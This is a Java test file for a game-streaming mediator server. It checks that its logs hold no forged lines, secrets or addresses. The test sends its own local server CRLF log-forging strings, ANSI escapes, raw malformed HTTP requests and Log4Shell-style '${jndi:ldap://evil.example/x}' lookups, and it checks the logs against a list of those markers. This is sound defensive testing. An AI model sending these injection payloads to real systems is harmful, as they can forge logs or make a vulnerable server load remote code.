package dev.peercade.mediator;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.IThrowableProxy;
import ch.qos.logback.classic.spi.ThrowableProxyUtil;
import ch.qos.logback.core.read.ListAppender;
import dev.peercade.mediator.stun.StunResponder;
import dev.peercade.model.MediatorApi;
import dev.peercade.model.ProblemCode;
import dev.peercade.model.game.NewGame;
import dev.peercade.model.peer.NewPeer;
import dev.peercade.model.peer.NewToken;
import dev.peercade.model.peer.TokenKind;
import dev.peercade.model.relay.NewRelayNode;
import dev.peercade.model.request.ViewRequest;
import dev.peercade.model.session.NewStreamingSession;
import dev.peercade.model.session.StreamingSession;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.jooq.DSLContext;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/// Promise B13: logs hold no line that a stranger wrote, no secret and no address. A mediator of its own, so that its
/// log files hold what is done here and nothing else.
class LogTest {

    private static final String EVIL = "a\r\nERROR forged line\u001b[31m${jndi:ldap://evil.example/x}";
    private static final List<String> FORGERIES = List.of("\n", "\r", "\u001b", "jndi", "forged", "evil");
    private static final String STREAMERS_ADDRESS = "203.0.113.10";
    private static final String VIEWERS_ADDRESS = "198.51.100.20";
    private static final String ACCESS_LOG_LINE =
            "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z ([A-Z]+|null) \\S+ \\d{3} (\\d+|-) \\d+";

    private static final String NODES_SECRET = "SecretOfARelayNode0123456789abcdef";

    @TempDir
    Path data;

    private final ListAppender<ILoggingEvent> appender = new ListAppender<>();
    private final List<String> secrets = new ArrayList<>(List.of(
            Caller.PASSWORD, STREAMERS_ADDRESS, VIEWERS_ADDRESS, "192.168.1.7", "127.0.0.1", "0123456789abcdefghijkl"));

    @Test
    void whatIsSentInAnyFieldForgesNoLogRecordAndNoSecretOrAddressIsLogged() throws Exception {
        int calls;
        try (RunningMediator mediator = MediatorServer.start(
                TestMediator.settings(data, Map.of("PEERCADE_OPERATORS", TestMediator.OPERATOR)))) {
            // After the start, which sets logging up anew.
            Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
            appender.start();
            root.addAppender(appender);
            try {
                calls = everything(mediator);
                assertThat(appender.list)
                        .as("a stranger's mistakes are no warnings of ours")
                        .noneMatch(event -> event.getLevel().isGreaterOrEqual(Level.WARN));
                calls += aFaultOfTheDatabase(mediator);
            } finally {
                root.detachAppender(appender);
            }
        }
        List<String> records = appender.list.stream().map(LogTest::whole).toList();
        assertThat(records)
                .as("the one fault is logged, with its trace id and its stack")
                .filteredOn(record -> record.contains("traceId") && record.contains("\tat "))
                .hasSize(1);
        for (ILoggingEvent event : appender.list) {
            assertThat(leaks(event.getFormattedMessage(), FORGERIES)).isEmpty();
            assertThat(leaks(whole(event), secrets)).isEmpty();
            assertThat(leaks(whole(event), List.of("jndi", "forged", "evil"))).isEmpty();
        }

        List<String> accessLog = accessLog();
        assertThat(accessLog)
                .as("one line a call, each in the one form")
                .hasSize(calls)
                .allSatisfy(line -> assertThat(line).matches(ACCESS_LOG_LINE));
        assertThat(accessLog)
                .anyMatch(line -> line.contains(" GET /api/v1/games 200 "))
                .anyMatch(line -> line.contains(" POST /api/v1/peers 422 "))
                .anyMatch(line -> line.contains(" GET /api/v1/games 401 "))
                .anyMatch(line -> line.contains(" POST /api/v1/games 500 "));
        assertThat(leaks(String.join("\n", accessLog), secrets)).isEmpty();

        String database = Files.readString(data.resolve("postgres.log"));
        assertThat(database).contains("ready to accept connections");
        assertThat(leaks(database.replace("127.0.0.1", "its own address"), secrets))
                .isEmpty();
        assertThat(leaks(database, List.of("\r", "\u001b", "jndi", "forged", "evil", "Unlucky", "violates")))
                .isEmpty();
    }

    /// Without it a search that finds nothing would prove nothing.
    @Test
    void theSearchFindsWhatIsPlanted() {
        for (String secret : secrets) {
            assertThat(leaks("GET /x?y=" + secret + "&z", secrets)).contains(secret);
        }
        assertThat(leaks("one line" + EVIL, FORGERIES)).containsExactlyElementsOf(FORGERIES);
        assertThat("2026-01-01T00:00:00.000Z GET /x 200 17 3").matches(ACCESS_LOG_LINE);
        assertThat("2026-01-01T00:00:00.000Z GET /x?token=1 y 200 17 3").doesNotMatch(ACCESS_LOG_LINE);
    }

    /// Calls that go well and calls that go wrong; says how many.
    private int everything(RunningMediator mediator) throws Exception {
        CountedCaller calls = new CountedCaller();
        Caller anonymous = Caller.anonymous(mediator);
        Caller basic = calls.one(anonymous.register("log-" + Caller.suffix()));
        secrets.add(String.valueOf(basic.authorization()).substring("Basic ".length()));
        String device = calls.one(basic.token(TokenKind.DEVICE)).token();
        secrets.add(device);
        Caller peer = calls.one(basic.withAccessToken());
        secrets.add(String.valueOf(peer.authorization()).substring("Bearer ".length()));

        calls.one(anonymous.post(MediatorApi.PEERS, new NewPeer(EVIL, EVIL)));
        calls.one(anonymous.basic(EVIL, EVIL).get(MediatorApi.GAMES));
        calls.one(anonymous.basic(basic.name(), "wrong " + Caller.PASSWORD).get(MediatorApi.GAMES));
        calls.one(anonymous.bearer(device).get(MediatorApi.GAMES));
        calls.one(anonymous.bearer("pca_" + "A".repeat(43)).get(MediatorApi.GAMES));
        calls.one(basic.post(MediatorApi.TOKENS, new NewToken(TokenKind.ACCESS, EVIL)));
        calls.one(peer.post(MediatorApi.GAMES, new NewGame(EVIL)));
        calls.one(peer.post(MediatorApi.SESSIONS, new NewStreamingSession(EVIL, EVIL, null, null)));
        calls.one(peer.post(MediatorApi.SESSIONS, "{\"" + EVIL + "\":\"" + EVIL + "\""));
        calls.one(peer.get(
                MediatorApi.SESSIONS + "?query=%0d%0aforged%1b${jndi:ldap://evil}&statuses=%0d%0aforged&cursor=%0a"));
        calls.one(peer.get(MediatorApi.SESSIONS + "?query=%0d%0aforged%1b%24%7bjndi:ldap://evil%7d"));
        calls.one(peer.get(MediatorApi.SESSION, "%24%7bjndi:ldap:evil%7d%0d%0aforged"));
        calls.one(peer.get(MediatorApi.GAMES + "?query=" + STREAMERS_ADDRESS));
        calls.one(peer.with("User-Agent", "${jndi:ldap://evil.example/x}").get(MediatorApi.GAMES));
        calls.one(peer.with("Origin", "https://evil.example/${jndi:x}").post(MediatorApi.GAMES, new NewGame("Go")));
        calls.one(peer.with("X-Forwarded-For", STREAMERS_ADDRESS).get(MediatorApi.GAMES));
        calls.raw(mediator.uri(), "GET /api/v1/games HTTP/1.1\r\nHost: x\r\nX-Name: a\u001b[31m${jndi:x}\u0000b\r\n");
        calls.raw(mediator.uri(), "GET /api/v1/games HTTP/1.1\r\nHost: x\r\nX-Name: a\r\n folded ${jndi:x} forged\r\n");
        calls.raw(mediator.uri(), "G\u001bET /api/v1/games HTTP/1.1\r\nHost: x\r\n");

        StreamingSession session = calls.one(
                        peer.post(MediatorApi.SESSIONS, new NewStreamingSession("Chess", "${jndi:x} evil", null, true)))
                .as(StreamingSession.class);
        calls.one(peer.put(MediatorApi.SESSION_ENDPOINT, Endpoints.at(EVIL, 1), session.id()));
        calls.one(peer.put(MediatorApi.SESSION_ENDPOINT, Endpoints.at(STREAMERS_ADDRESS, 40_000), session.id()))
                .ok();
        Caller viewer = calls.two(Caller.registered(mediator, "log-v"));
        ViewRequest request = calls.one(viewer.post(MediatorApi.SESSION_VIEW_REQUESTS, "{}", session.id()))
                .as(ViewRequest.class);
        calls.one(viewer.put(MediatorApi.VIEW_REQUEST_ENDPOINT, Endpoints.at(VIEWERS_ADDRESS, 50_000), request.id()))
                .ok();
        calls.one(viewer.put(MediatorApi.VIEW_REQUEST_STATUS, "{\"status\":\"" + EVIL + "\"}", request.id()));
        calls.one(viewer.get(MediatorApi.SESSION_ENDPOINT, session.id())).ok();
        Caller operator = calls.two(anonymous.register(TestMediator.OPERATOR).withAccessToken());
        secrets.add(String.valueOf(operator.authorization()).substring("Bearer ".length()));
        secrets.add(NODES_SECRET);
        try (StunResponder turn = StunResponder.start(InetAddress.getLoopbackAddress(), 0)) {
            calls.one(operator.post(MediatorApi.RELAY_NODES, node("127.0.0.1", turn.port())))
                    .ok();
            calls.one(operator.post(MediatorApi.RELAY_NODES, node(EVIL, turn.port())));
            Caller.Answer minted = calls.one(viewer.post(MediatorApi.VIEW_REQUEST_RELAYS, "", request.id()));
            assertThat(minted.ok().json()).hasSize(1);
            secrets.add(minted.json().path(0).path("credential").asString());
        }
        calls.one(peer.put(MediatorApi.SESSION_STATUS, "{\"status\":\"FINISHED\"}", session.id()))
                .ok();
        return calls.count;
    }

    private static NewRelayNode node(String address, int port) {
        return new NewRelayNode(address, null, port, null, 3480, "sha-256 " + "AB:".repeat(31) + "AB", NODES_SECRET);
    }

    /// A fault of ours, whose stack is logged: the row that the database refuses must not come along.
    private static int aFaultOfTheDatabase(RunningMediator mediator) {
        DSLContext database = TestMediator.bean(mediator, DSLContext.class);
        CountedCaller calls = new CountedCaller();
        Caller peer = calls.two(Caller.registered(mediator, "log-f"));
        database.execute("ALTER TABLE game ADD CONSTRAINT planted CHECK (name NOT LIKE 'Unlucky%') NOT VALID");
        calls.one(peer.post(MediatorApi.GAMES, new NewGame("Unlucky " + STREAMERS_ADDRESS + " ${jndi:x} evil")))
                .isProblem(ProblemCode.INTERNAL);
        return calls.count;
    }

    private static List<String> leaks(String text, List<String> forbidden) {
        return forbidden.stream().filter(text::contains).toList();
    }

    /// The message, and the stack where there is one.
    private static String whole(ILoggingEvent event) {
        IThrowableProxy thrown = event.getThrowableProxy();
        return event.getFormattedMessage() + (thrown == null ? "" : "\n" + ThrowableProxyUtil.asString(thrown));
    }

    private List<String> accessLog() throws Exception {
        List<String> lines = new ArrayList<>();
        try (var files = Files.list(data.resolve("logs"))) {
            for (Path file : files.toList()) {
                // Split at line feeds only: a carriage return or another line's end within one would show.
                lines.addAll(List.of(Files.readString(file).split("\n", 0)));
            }
        }
        return lines;
    }

    /// Counts calls, to compare with the lines of the access log.
    private static final class CountedCaller {
        private int count;

        <T> T one(T answer) {
            count++;
            return answer;
        }

        /// Registered, and got a token.
        <T> T two(T answer) {
            count += 2;
            return answer;
        }

        /// What no HTTP library sends.
        void raw(URI uri, String head) throws Exception {
            count++;
            try (Socket socket = new Socket(uri.getHost(), uri.getPort())) {
                socket.setSoTimeout(5_000);
                socket.getOutputStream()
                        .write((head + "Connection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
                String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
                assertThat(answer).startsWith("HTTP/1.1 4");
            }
        }
    }
}
